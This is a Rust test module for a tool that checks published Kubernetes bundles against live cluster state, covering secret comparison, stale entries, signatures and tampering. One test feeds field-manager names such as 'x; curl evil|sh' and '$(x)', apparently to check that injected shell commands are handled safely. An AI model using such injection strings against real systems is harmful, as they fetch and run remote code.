//! Tests of `verify::live`, and of how a bundle is taken apart for it.

mod left;

use alloc::string::ToString as _;

use serde_json::{Value, json};

use super::*;
use crate::config::Fleet;
use crate::finding::settle;
use crate::hash::sha256_hex;
use crate::layout::manifest::{Manifest, ManifestFile, ManifestObject, NeededBy, ObjectState, emit};
use crate::layout::path;
use crate::recipient::Recipient;
use crate::region::published::{Files, Published};
use crate::reuse::{Context, EntryLeaf, KeyRing, ReuseKey, header, leaves, manifest_line};
use crate::testing::{case, node, yaml};
use crate::verify::live::open;

const LONG: &str = "a-value-of-more-than-sixteen-bytes";
const MINE: &str = "app.kubernetes.io/managed-by: pouch, k0rdent.mirantis.com/managed: 'false'";

pub(in crate::verify::live) fn ring(byte: u8) -> KeyRing {
    KeyRing::new(ReuseKey::parse(&ReuseKey::to_text(&[byte; 32])).ok().unwrap(), vec![])
}

fn fleet() -> Fleet {
    case::fleet(&json!({
        "regions": {"eu": {"namespaces": {"labels": {"team-a": {"env": "prod"}, "team-b": {"env": "prod"}}}}},
    }))
}

/// A document in which `MINE` stands for pouch's labels.
fn document(text: &str) -> Value {
    yaml(&text.replace("MINE", MINE))
}

fn key_of(document: &Value) -> ObjectKey {
    let text = |value: &Value| value.as_str().unwrap_or_default().to_string();
    let (api, kind) = (text(&document["apiVersion"]), text(&document["kind"]));
    let kind = GroupKind::new(api.rsplit_once('/').map_or("", |(group, _)| group), &kind);
    let namespace = document["metadata"]["namespace"].as_str().map(Namespace::from);
    ObjectKey::new(kind, namespace, text(&document["metadata"]["name"]).as_str().into())
}

/// A Secret's `stringData` as the API has it.
fn stored(mut document: Value) -> Value {
    if let Some(entries) = document.as_object_mut().unwrap().remove("stringData") {
        let encoded = entries
            .as_object()
            .unwrap()
            .iter()
            .map(|(name, value)| (name.clone(), Value::String(STANDARD.encode(value.as_str().unwrap()))));
        document["data"] = Value::Object(encoded.collect());
    }
    document
}

/// What stands published: files of objects, and a manifest that the key signs.
pub(in crate::verify::live) struct Shelf {
    fleet: Fleet,
    files: Files,
    pub(in crate::verify::live) manifest: Manifest,
}

impl Shelf {
    pub(in crate::verify::live) fn new(documents: &[&str]) -> Self {
        let fleet = fleet();
        let region = fleet.regions.values().next().unwrap();
        let recipients: Vec<Recipient> = region.recipients.clone();
        let directory = region.directory.clone();
        let mut shelf = Self {
            files: Files::new(),
            manifest: Manifest {
                rests_on: Default::default(),
                texts: Default::default(),
                cluster: None,
                splits: crate::layout::Splits::default(),
                directory: directory.clone(),
                fleet: fleet.name.clone(),
                recipients: recipients.clone(),
                sources: vec![],
                objects: vec![],
                files: vec![],
            },
            fleet,
        };
        for text in documents {
            let document = document(text);
            let key = key_of(&document);
            let bytes = if key.kind.is_secret() {
                sealed(&shelf.fleet, &recipients, &key, document)
            } else {
                document.to_string().into_bytes()
            };
            let path = path::of_object(&directory, &key);
            shelf.manifest.objects.push(ManifestObject {
                read_at: None,
                key,
                from: None,
                guest: None,
                path: path.clone(),
                sha256: sha256_hex(&bytes),
                state: ObjectState::Current,
                recipients: vec![],
                needed_by: vec![NeededBy {
                    by: crate::name::Claimant::credential("team-b".into(), "c".into()),
                    through: vec![],
                }],
            });
            shelf.files.insert(path.to_string(), bytes);
        }
        shelf.sign(&ring(1));
        shelf
    }

    pub(in crate::verify::live) fn sign(&mut self, keys: &KeyRing) {
        let text = emit(&self.manifest);
        let line = manifest_line(keys.current().unwrap(), &self.fleet.name, &self.manifest.directory, text.as_bytes());
        let path = path::manifest(&self.manifest.directory).to_string();
        self.files.insert(path, (line + &text).into_bytes());
    }

    /// The findings of [`open`] alone.
    fn opened(&self, keys: Option<&KeyRing>) -> String {
        self.look(keys, |_| Answers::default(), |_| Vec::new())
    }

    fn look(
        &self,
        keys: Option<&KeyRing>,
        answers: impl Fn(&Bundle<'_>) -> Answers,
        compare: impl Fn((&Bundle<'_>, Answers)) -> Vec<Finding>,
    ) -> String {
        let region = self.fleet.regions.values().next().unwrap();
        let published = match keys {
            Some(keys) => Published::examine(&self.fleet.name, &region.directory, self.files.clone(), keys),
            None => Published::unproved(&self.fleet.name, &region.directory, self.files.clone()),
        };
        let (bundle, mut findings) = open(&self.fleet, region, &published, keys);
        if let Some(bundle) = bundle {
            let answers = answers(&bundle);
            findings.extend(compare((&bundle, answers)));
        }
        assert!(findings.iter().all(|finding| finding.region.is_some() && !finding.help.is_empty()), "{findings:?}");
        let shown = settle(findings).into_iter().map(|f| format!("{}: {}\n", f.code.text(), f.message));
        let shown: String = shown.collect();
        assert!(!shown.replace("not-proved", "").contains("value"), "a value is shown: {shown}");
        shown.trim_end().to_string()
    }

    /// Compares with a region on which all of the bundle's kinds are served, and all namespaces exist.
    fn against(&self, keys: Option<&KeyRing>, live: &[&str], change: impl Fn(&mut Answers)) -> String {
        self.answered(keys, live, change, |(bundle, answers)| compare(bundle, &answers))
    }

    /// The same, compared in another way.
    pub(in crate::verify::live) fn answered(
        &self,
        keys: Option<&KeyRing>,
        live: &[&str],
        change: impl Fn(&mut Answers),
        compare: impl Fn((&Bundle<'_>, Answers)) -> Vec<Finding>,
    ) -> String {
        let answers = |bundle: &Bundle<'_>| {
            let questions = bundle.questions();
            let live: BTreeMap<ObjectKey, Node> =
                live.iter().map(|text| stored(document(text))).map(|doc| (key_of(&doc), node(&doc))).collect();
            let mut answers = Answers::default();
            for (kind, versions) in questions.objects {
                answers.served.insert(kind, versions.keys().cloned().collect());
                for key in versions.into_values().flatten() {
                    answers.objects.insert(key.clone(), live.get(&key).cloned());
                }
            }
            for namespace in questions.namespaces {
                let mut found = live.get(&ObjectKey::namespace(&namespace)).cloned();
                if found.is_none() {
                    found = Some(node(&json!({"metadata": {"labels": {"env": "prod"}}})));
                }
                answers.namespaces.insert(namespace, found);
            }
            change(&mut answers);
            answers
        };
        self.look(keys, answers, compare)
    }
}

fn sealed(fleet: &Fleet, recipients: &[Recipient], key: &ObjectKey, mut document: Value) -> Vec<u8> {
    let values = document.as_object_mut().unwrap().remove("stringData").unwrap_or(json!({}));
    let values: BTreeMap<String, SecretBytes> = values
        .as_object()
        .unwrap()
        .iter()
        .map(|(name, value)| (name.clone(), SecretBytes::new(value.as_str().unwrap().as_bytes().to_vec())))
        .collect();
    let leaf = |(name, value): (&String, &SecretBytes)| {
        (name.clone(), json!(if value.is_empty() { String::new() } else { format!("ENC[{name}]") }))
    };
    document["data"] = Value::Object(values.iter().map(leaf).collect());
    document["type"] = document.get("type").cloned().unwrap_or(json!("Opaque"));
    let found = leaves(&node(&document)).unwrap();
    let entries: Vec<EntryLeaf<'_>> =
        found.iter().map(|(name, leaf)| EntryLeaf { name, leaf, value: &values[name] }).collect();
    let body = document.to_string().into_bytes();
    let directory = &fleet.regions.values().next().unwrap().directory;
    let context = Context { fleet: &fleet.name, directory, landing: key, recipients };
    let mut bytes = header(ring(1).current().unwrap(), &context, b"", &body, &entries).into_bytes();
    bytes.extend(body);
    bytes
}

/// One object of a bundle, the same object on the region (or none), and all that is found.
#[track_caller]
fn check(bundle: &str, live: &str, expect: &str) {
    let live: &[&str] = if live.is_empty() { &[] } else { &[live] };
    assert_eq!(Shelf::new(&[bundle]).against(Some(&ring(1)), live, |_| {}), expect);
}

fn secret(rest: &str) -> String {
    format!("{{apiVersion: v1, kind: Secret, metadata: {{name: s, namespace: team-a, labels: {{MINE}}}}, {rest}}}")
}

#[track_caller]
fn check_secret(bundle: &str, live: &str, expect: &str) {
    check(&secret(&format!("stringData: {bundle}")), &secret(&format!("type: Opaque, stringData: {live}")), expect);
}

const DIFFERS: &str = "differs-on-region: Secret team-a/s is not as the bundle says:";

#[test]
fn values_are_compared_by_their_tags() {
    check_secret(&format!("{{a: {LONG}, b: short, c: ''}}"), &format!("{{a: {LONG}, b: short, c: ''}}"), "");
    check_secret(&format!("{{a: {LONG}}}"), &format!("{{a: {LONG}x}}"), &format!("{DIFFERS} data.a"));
    check_secret("{a: short}", "{a: other}", &format!("{DIFFERS} data.a"));
    check_secret(&format!("{{a: {LONG}}}"), "{a: short}", &format!("{DIFFERS} data.a"));
    check_secret("{a: short}", &format!("{{a: {LONG}}}"), &format!("{DIFFERS} data.a"));
    check_secret("{a: short, b: other}", "{a: short, b: third}", &format!("{DIFFERS} one or more of data.a, data.b"));
    check_secret("{a: short, b: other}", "{a: other, b: short}", &format!("{DIFFERS} one or more of data.a, data.b"));
    check_secret("{a: ''}", "{a: x}", &format!("{DIFFERS} data.a"));
    check_secret("{a: x}", "{a: ''}", &format!("{DIFFERS} data.a"));
    check_secret("{clouds.yaml: x, b: ''}", "{b: ''}", &format!("{DIFFERS} data[\"clouds.yaml\"] is missing"));
    // Two entries that exchanged their values, or one value in another Secret: the tags are bound to the name.
    check_secret(
        &format!("{{a: {LONG}, b: {LONG}x}}"),
        &format!("{{a: {LONG}x, b: {LONG}}}"),
        &format!("{DIFFERS} data.a, data.b"),
    );
}

#[test]
fn type_and_metadata_of_secrets_are_compared() {
    let live = |rest: &str| secret(&format!("type: Opaque{rest}"));
    check(&secret("stringData: {}"), &live(""), "");
    check(&secret("type: Opaque"), &secret("type: kubernetes.io/basic-auth"), &format!("{DIFFERS} type"));
    let bare = "{apiVersion: v1, kind: Secret, type: Opaque, metadata: {name: s, namespace: team-a}}";
    check(&secret("stringData: {}"), bare, &format!("{DIFFERS} metadata.labels is missing"));
    let other = live("").replace("by: pouch", "by: me").replace("MINE", &MINE.replace("by: pouch", "by: me"));
    check(&secret("stringData: {}"), &other, &format!("{DIFFERS} metadata.labels[\"app.kubernetes.io/managed-by\"]"));
    check(&secret("stringData: {}"), "", "missing-on-region: Secret team-a/s is not on the region");
}

#[test]
fn what_k0rdent_still_owns_is_said_once() {
    let copy = "{apiVersion: v1, kind: Secret, type: Opaque, stringData: {a: VALUE}, metadata: {name: s, \
                namespace: team-a, labels: {k0rdent.mirantis.com/managed: 'true', other: x}}}";
    let kept = "not-taken-over: Secret team-a/s is still labelled as k0rdent's";
    check(&secret("stringData: {a: short}"), &copy.replace("VALUE", "short"), kept);
    check(&secret("stringData: {a: short}"), &copy.replace("VALUE", "other"), &format!("{DIFFERS} data.a\n{kept}"));
    let yaml_true = "{apiVersion: v1, kind: Secret, type: Opaque, metadata: {name: s, namespace: team-a, \
                     labels: {app.kubernetes.io/managed-by: pouch, k0rdent.mirantis.com/managed: 'no'}}}";
    check(
        &secret("stringData: {}"),
        yaml_true,
        &format!("{DIFFERS} metadata.labels[\"k0rdent.mirantis.com/managed\"]"),
    );
}

#[test]
fn entries_that_no_bundle_has_are_stale_and_name_their_owner() {
    let live = |managers: &str| {
        format!(
            "{{apiVersion: v1, kind: Secret, type: Opaque, stringData: {{a: short, old.key: x}}, metadata: {{name: s, \
             namespace: team-a, labels: {{MINE}}, managedFields: [{managers}]}}}}"
        )
    };
    let entry =
        |manager: &str, name: &str| format!("{{manager: {manager}, fieldsV1: {{'f:data': {{'f:{name}': {{}}}}}}}}");
    let stale = |owner: &str| {
        format!(
            "stale-entry: Secret team-a/s has data[\"old.key\"] on the region, which the bundle does not have; {owner}"
        )
    };
    let written = secret("stringData: {a: short}");
    check(&written, &live(&entry("manager", "old.key")), &stale("field manager manager owns it"));
    check(&written, &live(&entry("manager", "a")), &stale("no field manager owns it"));
    let both = format!("{}, {}", entry("manager", "old.key"), entry("kubectl", "old.key"));
    check(&written, &live(&both), &stale("field managers kubectl, manager own it"));
    let sent = entry("kubectl", "old.key").replace("f:data", "f:stringData");
    check(&written, &live(&sent), &stale("field manager kubectl set it by stringData"));
    check(
        &written,
        &live(&format!("{sent}, {}", entry("manager", "old.key"))),
        &stale("field manager manager owns it"),
    );

    let map = |data: &str| {
        format!(
            "{{apiVersion: v1, kind: ConfigMap, metadata: {{name: m, namespace: team-a, labels: {{MINE}}}}, {data}}}"
        )
    };
    check(&map("data: {a: x}"), &map("data: {a: x}"), "");
    check(
        &map("data: {a: x}"),
        &map("data: {a: y, b: z}, binaryData: {c: eA==}"),
        "differs-on-region: ConfigMap team-a/m is not as the bundle says: data.a\n\
         stale-entry: ConfigMap team-a/m has binaryData.c on the region, which the bundle does not have; no field \
         manager owns it\n\
         stale-entry: ConfigMap team-a/m has data.b on the region, which the bundle does not have; no field manager \
         owns it",
    );
    check(&map("data: {}"), &map("other: 1"), "");
}

#[test]
fn the_cure_of_a_stale_entry_fits_the_delivery_and_the_owner() {
    let help = |delivery: Value, managers: &str| {
        let mut shelf = Shelf::new(&[&secret("stringData: {}")]);
        shelf.fleet = case::fleet(&json!({"regions": {"eu": {"delivery": delivery}}, "regionDefaults": {"delivery": {
            "flux": {"sourceRef": {"kind": "GitRepository", "name": "f"}},
            "argocd": {"repoURL": "https://git.example.com/f.git"},
        }}}));
        let published =
            Published::examine(&shelf.fleet.name, &shelf.fleet.regions["eu"].directory, shelf.files.clone(), &ring(1));
        let keys = ring(1);
        let (bundle, _) = open(&shelf.fleet, &shelf.fleet.regions["eu"], &published, Some(&keys));
        let live = yaml(&format!("{{metadata: {{managedFields: [{managers}]}}}}"));
        let key = ObjectKey::secret("team-a".into(), "s".into());
        super::super::stale::stale(&bundle.unwrap(), &key, &node(&live), &[("data", "old".to_string())]).remove(0).help
    };
    let by = |manager: &str| format!("{{manager: {manager}, fieldsV1: {{'f:data': {{'f:old': {{}}}}}}}}");
    for (delivery, managers, expect) in [
        ("flux", by("manager"), "Remove the entry by hand"),
        ("flux", by("kustomize-controller"), "was not applied"),
        ("flux", format!("{}, {}", by("manager"), by("kustomize-controller")), "Remove the entry by hand"),
        ("flux", String::new(), "Remove the entry by hand"),
        ("flux", by("kubectl").replace("f:data", "f:stringData"), "Remove the entry by hand"),
        ("argocd", by("manager"), "Remove the entry by hand"),
        ("argocd", by("argocd-controller"), "was not applied"),
        ("none", by("kubectl"), "Remove the entry by hand"),
        ("flux", by("'a.b/c:d_e-9'"), "Remove the entry by hand"),
        ("flux", by("'x; curl evil|sh'"), "Remove the entry by hand"),
        ("flux", by("'$(x)'"), "Remove the entry by hand"),
        ("flux", by("''"), "Remove the entry by hand"),
        ("flux", by(&"x".repeat(129)), "Remove the entry by hand"),
        ("flux", format!("{}, {}", by("manager"), by("'a b'")), "Remove the entry by hand"),
    ] {
        let help = help(json!(delivery), &managers);
        assert!(help.contains(expect), "{delivery} {managers}: {help}");
    }
}

/// A region may hold anything: what is said of it stays short, and is found in no time.
#[test]
fn a_flood_of_entries_and_managers_is_counted() {
    let entries: Vec<String> = (0..30_000).map(|n| format!("e{n:05}: x")).collect();
    let owner = |n: usize| format!("{{manager: m{n}, fieldsV1: {{'f:data': {{'f:e00000': {{}}}}}}}}");
    let managers: Vec<String> = (0..3_000).map(owner).collect();
    let map = |data: &str, managers: &str| {
        format!(
            "{{apiVersion: v1, kind: ConfigMap, metadata: {{name: m, namespace: team-a, labels: {{MINE}}, \
             managedFields: [{managers}]}}, data: {{{data}}}}}"
        )
    };
    let shelf = Shelf::new(&[&map("a: x", "")]);
    let found = |data: &str, managers: &str| shelf.against(Some(&ring(1)), &[&map(data, managers)], |_| {});
    let flood = found(&format!("a: x, {}", entries.join(", ")), &managers.join(", "));
    let lines: Vec<&str> = flood.lines().collect();
    assert_eq!(lines.len(), 21, "{flood}");
    let first = "stale-entry: ConfigMap team-a/m has data.e00000 on the region, which the bundle does not have; field \
                 managers m0, m1, m10, m100, m101, m102, m103, m104 and 992 more own it";
    assert!(lines.contains(&first), "{flood}");
    assert!(flood.contains("data.e00019 on") && !flood.contains("data.e00020 on"), "{flood}");
    assert!(flood.contains("; none of the first 1000 field managers owns it"), "{flood}");
    assert!(flood.contains("m has 29980 more entries on the region that the bundle does not have"), "{flood}");
    // What is named is cut where no API server would have let it go on, and quoted where it is no name.
    let odd = found(&format!("a: x, {}: x", "n".repeat(300)), "{manager: \"a\\nb\", fieldsV1: {}}");
    assert!(odd.contains(&format!("data[\"{}…\"] on", "n".repeat(253))), "{odd}");
    let odd = found("a: x, b: x", "{manager: \"a\\n'b\", fieldsV1: {'f:data': {'f:b': {}}}}");
    assert!(odd.ends_with("field manager \"a\\n'b\" owns it"), "{odd}");
}

#[test]
fn what_is_being_deleted_is_as_good_as_missing() {
    let going = |text: &str| text.replace("{name: ", "{deletionTimestamp: '2026-01-01T00:00:00Z', name: ");
    let written = secret("stringData: {a: short}");
    let gone = "missing-on-region: Secret team-a/s is being deleted on the region";
    check(&written, &going(&secret("type: Opaque, stringData: {a: short}")), gone);
    check(&written, &going(&secret("type: Opaque, stringData: {a: other}")), &format!("{gone}\n{DIFFERS} data.a"));
    let null = secret("type: Opaque, stringData: {a: short}").replace("{name: ", "{deletionTimestamp: null, name: ");
    check(&written, &null, "");

    let namespace =
        |name: &str| format!("{{apiVersion: v1, kind: Namespace, metadata: {{name: {name}, labels: {{env: prod}}}}}}");
    let live = secret("type: Opaque, stringData: {a: short}");
    let with = |bundle: &[&str], name: &str| {
        Shelf::new(bundle).against(Some(&ring(1)), &[&live, &going(&namespace(name))], |_| {})
    };
    let made = namespace("team-a");
    assert_eq!(
        with(&[&made, &written], "team-a"),
        "missing-on-region: Namespace team-a is being deleted on the region"
    );
    assert_eq!(with(&[&written], "team-a"), "missing-on-region: Namespace team-a is being deleted on the region");
    assert_eq!(with(&[&written], "team-b"), "");
}

#[test]
fn a_flood_of_copies_is_counted_by_kind() {
    let found =
        Shelf::new(&[&secret("stringData: {}")]).against(Some(&ring(1)), &[&secret("type: Opaque")], |answers| {
            let labels = node(&json!({"metadata": {"labels": {"k0rdent.mirantis.com/managed": "true"}}}));
            let key = |n: usize| ObjectKey::secret("team-a".into(), format!("x{n:04}").as_str().into());
            answers.copies = (0..1_101).rev().map(|n| (key(n), labels.clone())).collect();
            let kind = GroupKind::new("example.org", "Other");
            let others = (0..101).map(|n| ObjectKey::new(kind.clone(), None, format!("y{n:03}").as_str().into()));
            answers.copies.extend(others.map(|key| (key, labels.clone())));
        });
    assert_eq!(found.lines().count(), 100 + 1 + 100 + 1);
    assert!(found.contains("Secret team-a/x0099 is a copy") && !found.contains("x0100"), "{found}");
    for more in ["1001 more Secret objects are copies of k0rdent's", "1 more Other.example.org object is a copy of"] {
        assert!(found.contains(more), "{found}");
    }
}

#[track_caller]
fn check_identity(bundle: &str, live: &str, paths: &str) {
    let identity = |spec: &str| {
        format!(
            "{{apiVersion: infrastructure.cluster.x-k8s.io/v1beta2, kind: AWSClusterStaticIdentity, \
             metadata: {{name: i, labels: {{MINE}}}}, spec: {spec}}}"
        )
    };
    let expect = match paths {
        "" => String::new(),
        paths => format!(
            "differs-on-region: AWSClusterStaticIdentity i is not as the bundle \
             says: {paths}"
        ),
    };
    check(&identity(bundle), &identity(live), &expect);
}

#[test]
fn identities_are_compared_by_the_fields_of_the_file() {
    check_identity("{a: 1, b: {c: x}}", "{a: 1, b: {c: x, added: y}, more: []}", "");
    check_identity("{a: 1, b: {c: x}}", "{a: 2, b: {}}", "spec.a, spec.b.c is missing");
    check_identity("{a: null}", "{}", "");
    check_identity("{a: 1.0}", "{a: 1}", "");
    check_identity("{a: 1.5}", "{a: 1}", "spec.a");
    check_identity("{a: [x, {y: 1}]}", "{a: [x, {y: 1}]}", "");
    check_identity("{a: [x, {y: 1}]}", "{a: [x, {y: 1, z: 2}]}", "spec.a");
    check_identity("{a: [x]}", "{a: [x, y]}", "spec.a");
    check_identity("{a: {}}", "{}", "spec.a is missing");
    check_identity("{a: {b: x}}", "{a: text}", "spec.a");
    check_identity("{a/b: 1}", "{}", "spec[\"a/b\"] is missing");
    let many: Vec<String> = (0..10).map(|n| format!("f{n}: 1")).collect();
    let paths: Vec<String> = (0..8).map(|n| format!("spec.f{n} is missing")).collect();
    check_identity(&format!("{{{}}}", many.join(", ")), "{}", &format!("{}, and 2 more", paths.join(", ")));
}

#[test]
fn who_may_use_an_identity_is_compared_whole() {
    let who = "spec.allowedNamespaces";
    check_identity("{allowedNamespaces: {list: [a]}}", "{allowedNamespaces: {list: [a]}}", "");
    check_identity("{allowedNamespaces: {list: [a]}}", "{allowedNamespaces: {list: [a], selector: {x: y}}}", who);
    check_identity("{allowedNamespaces: {}}", "{allowedNamespaces: {list: [a]}}", who);
    check_identity("{}", "{allowedNamespaces: {}}", who);
    check_identity("{allowedNamespaces: {}}", "{}", who);
    check_identity("{namespaceSelector: {a: b}}", "{namespaceSelector: {a: b, c: d}}", "spec.namespaceSelector");
    // As a controller writes back what it read.
    check_identity("{allowedNamespaces: {}}", "{allowedNamespaces: {list: null, selector: {}}}", "");
    check_identity("{allowedNamespaces: {list: [a]}}", "{allowedNamespaces: {list: [a], selector: {m: {}}}}", "");
    check_identity("{allowedNamespaces: {list: null}}", "{allowedNamespaces: {}}", "");
}

const IDENTITY: &str = "{apiVersion: infrastructure.cluster.x-k8s.io/v1beta2, kind: AWSClusterStaticIdentity, \
                        metadata: {name: i, labels: {MINE}}, spec: {}}";

#[test]
fn kinds_that_the_region_lacks_are_said_once() {
    let second = IDENTITY.replace("name: i", "name: j");
    let shelf = Shelf::new(&[IDENTITY, &second]);
    let kind = GroupKind::new("infrastructure.cluster.x-k8s.io", "AWSClusterStaticIdentity");
    let without = |versions: &[&str]| {
        shelf.against(Some(&ring(1)), &[], |answers| {
            answers.objects.clear();
            answers.served.clear();
            if !versions.is_empty() {
                answers.served.insert(kind.clone(), versions.iter().map(|version| Version::from(*version)).collect());
            }
        })
    };
    assert_eq!(
        without(&[]),
        "kind-not-on-region: the region serves no AWSClusterStaticIdentity, of which \
         its bundle has 2 objects"
    );
    assert_eq!(
        without(&["v1beta1", "v1"]),
        "kind-not-on-region: the region serves AWSClusterStaticIdentity in v1, \
         v1beta1, and its bundle has 2 objects in v1beta2"
    );
    assert_eq!(without(&["v1beta1", "v1beta2"]), "");
}

#[test]
fn namespaces_are_there_and_have_the_labels_that_are_configured() {
    let made = "{apiVersion: v1, kind: Namespace, metadata: {name: team-a, labels: {env: prod}}}";
    let shelf = |made: &[&str]| Shelf::new(&[made, &[&*secret("stringData: {}")]].concat());
    let live = secret("type: Opaque");
    let gone = |shelf: &Shelf, name: &str| {
        shelf.against(Some(&ring(1)), &[&live], |answers| _ = answers.namespaces.insert(name.into(), None))
    };
    let with = |labels: &str| {
        let namespace = format!("{{apiVersion: v1, kind: Namespace, metadata: {{name: team-a, labels: {labels}}}}}");
        shelf(&[made]).against(Some(&ring(1)), &[&live, &namespace], |_| {})
    };
    assert_eq!(with("{env: prod, more: x}"), "");
    let differs =
        "namespace-labels-differ: Namespace team-a does not have the labels that the configuration gives it: env";
    assert_eq!(with("{env: dev}"), differs);
    assert_eq!(with("{}"), differs);
    assert_eq!(
        gone(&shelf(&[made]), "team-a"),
        "missing-on-region: Namespace team-a is not on the region, and the bundle's object in it is missing too"
    );
    assert_eq!(
        gone(&shelf(&[]), "team-a"),
        "missing-on-region: Namespace team-a is not on the region, and the bundle's object in it is \
         missing too"
    );
    // A Credential's own namespace: nothing lands there, and its labels count.
    assert_eq!(gone(&shelf(&[]), "team-b"), "");
    let other = "{apiVersion: v1, kind: Namespace, metadata: {name: team-b, labels: {env: dev}}}";
    assert_eq!(shelf(&[]).against(Some(&ring(1)), &[&live, other], |_| {}), differs.replace("team-a", "team-b"));
}

#[test]
fn only_what_the_manifest_vouches_for_is_compared() {
    let shelf = Shelf::new(&[&secret("stringData: {a: short}")]);
    assert_eq!(shelf.opened(Some(&ring(1))), "");
    let unsigned = "untrusted-bundle: regions/eu has files and no manifest that the reuse key authenticates";
    let (theirs, ours) = (ring(1), ring(2));
    let ids =
        format!(": it names key {}, and ours is {}", theirs.current().unwrap().id(), ours.current().unwrap().id());
    assert_eq!(shelf.opened(Some(&ours)), format!("{unsigned}{ids}"));

    let mut nothing = Shelf::new(&[]);
    nothing.files.clear();
    assert_eq!(nothing.opened(Some(&ring(1))), "untrusted-bundle: nothing is published in regions/eu");

    // One byte of a file: its object is compared with nothing.
    let mut tampered = Shelf::new(&[&secret("stringData: {a: short}")]);
    let path = "regions/eu/core/secrets/team-a/s.sops.yaml";
    tampered.files.get_mut(path).unwrap().push(b'\n');
    let message = format!("untrusted-bundle: {path} is missing or does not match the manifest");
    assert_eq!(tampered.opened(Some(&ring(1))), message);
    assert_eq!(tampered.against(Some(&ring(1)), &[&secret("type: x")], |_| {}), message);
    tampered.files.remove(path);
    assert_eq!(tampered.opened(Some(&ring(1))), message);

    // One byte of the manifest.
    let mut forged = Shelf::new(&[&secret("stringData: {a: short}")]);
    forged.files.get_mut("regions/eu/bundle.yaml").unwrap().push(b'\n');
    let changed = format!(
        ": it names our key {}, and was changed, or is of another fleet or folder",
        theirs.current().unwrap().id()
    );
    assert_eq!(forged.opened(Some(&ring(1))), format!("{unsigned}{changed}"));

    // Signed, and another object than the manifest says.
    let mut wrong = Shelf::new(&[IDENTITY]);
    let bytes = IDENTITY.replace("StaticIdentity", "RoleIdentity").into_bytes();
    wrong.manifest.objects[0].sha256 = sha256_hex(&bytes);
    let path = wrong.manifest.objects[0].path.to_string();
    wrong.files.insert(path.clone(), bytes);
    wrong.sign(&ring(1));
    assert_eq!(
        wrong.opened(Some(&ring(1))),
        format!("untrusted-bundle: {path} does not hold the object that the manifest says")
    );

    let mut newer = Shelf::new(&[]);
    newer.files.insert("regions/eu/bundle.yaml".into(), b"# pouch/v2 x\n".to_vec());
    for keys in [Some(&ring(1)), None] {
        assert_eq!(
            newer.opened(keys).lines().next().unwrap(),
            "untrusted-bundle: the bundle of eu is written as a later format, which this pouch does not know"
        );
    }
}

#[test]
fn without_the_key_names_and_types_are_compared() {
    let shelf = Shelf::new(&[&secret("stringData: {a: short, b: short}")]);
    let live = secret("type: Opaque, stringData: {a: other, c: x}");
    let names = "differs-on-region: Secret team-a/s is not as the bundle says: data.b is missing\n\
                 stale-entry: Secret team-a/s has data.c on the region, which the bundle does not have; no field \
                 manager owns it";
    // The word `value` is what this test's harness looks for.
    let (code, rest) = (Code::NotProved.text(), "--no-values: nobody vouches");
    let found = without_values(&shelf, None, &live);
    assert!(found.starts_with(names) && found.contains(code) && found.contains(rest), "{found}");

    // The manifest is signed anew and the file has a tag of a key that was thrown away.
    let mut rotated = Shelf::new(&[&secret("stringData: {a: short, b: short}")]);
    rotated.sign(&ring(2));
    let found = without_values(&rotated, Some(&ring(2)), &live);
    assert!(found.starts_with(names) && found.contains("was written with another key"), "{found}");

    let other = Shelf::new(&[]);
    let mut foreign = other.manifest.clone();
    foreign.fleet = "other".into();
    let mut files = Files::new();
    files.insert("regions/eu/bundle.yaml".into(), emit(&foreign).into_bytes());
    let foreign = Shelf { files, ..other };
    assert_eq!(foreign.opened(None), "untrusted-bundle: regions/eu has files and no manifest of this fleet and folder");
}

/// As [`Shelf::against`], whose messages say the word that it looks for.
fn without_values(shelf: &Shelf, keys: Option<&KeyRing>, live: &str) -> String {
    let region = &shelf.fleet.regions["eu"];
    let published = match keys {
        Some(keys) => Published::examine(&shelf.fleet.name, &region.directory, shelf.files.clone(), keys),
        None => Published::unproved(&shelf.fleet.name, &region.directory, shelf.files.clone()),
    };
    let (bundle, mut findings) = open(&shelf.fleet, region, &published, keys);
    let live = stored(document(live));
    let answers = Answers { objects: BTreeMap::from([(key_of(&live), Some(node(&live)))]), ..Answers::default() };
    findings.extend(compare(&bundle.unwrap(), &answers));
    settle(findings).into_iter().map(|f| format!("{}: {}\n", f.code.text(), f.message)).collect()
}

#[test]
fn what_is_asked_is_what_the_bundle_has() {
    let shelf = Shelf::new(&[IDENTITY, &secret("stringData: {}")]);
    let region = &shelf.fleet.regions["eu"];
    let keys = ring(1);
    let published = Published::examine(&shelf.fleet.name, &region.directory, shelf.files.clone(), &keys);
    let (bundle, _) = open(&shelf.fleet, region, &published, Some(&keys));
    let bundle = bundle.unwrap();
    let questions = bundle.questions();
    assert_eq!(bundle.objects(), 2);
    assert_eq!(questions.groups, BTreeSet::from(["infrastructure.cluster.x-k8s.io".to_string()]));
    let asked: Vec<String> = questions
        .objects
        .values()
        .flatten()
        .flat_map(|(version, keys)| keys.iter().map(move |key| format!("{version} {key}")))
        .collect();
    assert_eq!(asked, ["v1 Secret team-a/s", "v1beta2 AWSClusterStaticIdentity i"]);
    let namespaces: Vec<&str> = questions.namespaces.iter().map(Namespace::as_str).collect();
    assert_eq!(namespaces, ["team-a", "team-b"]);
    assert!(questions.listed.contains(&GroupKind::new("", "Secret")) && questions.listed.len() > 5);
}

/// A leaf stays as long as its region, so what a configuration forgot is looked for all the same.
#[test]
fn a_kind_that_the_configuration_forgot_is_looked_for() {
    let mut shelf = Shelf::new(&[]);
    let forgotten = GroupKind::new("identity.example.org", "ForgottenIdentity");
    let leaf = crate::layout::Leaf::of(&forgotten);
    let text = "regions/eu/identities/forgottenidentity.identity.example.org/kustomization.yaml";
    shelf.manifest.files.push(ManifestFile { path: path::BundlePath::parse(text).unwrap(), sha256: sha256_hex(b"x") });
    shelf.files.insert(text.to_string(), b"x".to_vec());
    shelf.sign(&ring(1));
    let region = &shelf.fleet.regions["eu"];
    let keys = ring(1);
    let published = Published::examine(&shelf.fleet.name, &region.directory, shelf.files.clone(), &keys);
    let (bundle, _) = open(&shelf.fleet, region, &published, Some(&keys));
    let questions = bundle.unwrap().questions();
    assert!(questions.groups.contains("identity.example.org") && !questions.listed.contains(&forgotten));
    assert_eq!(questions.leaves.into_iter().collect::<Vec<_>>(), [leaf]);
}
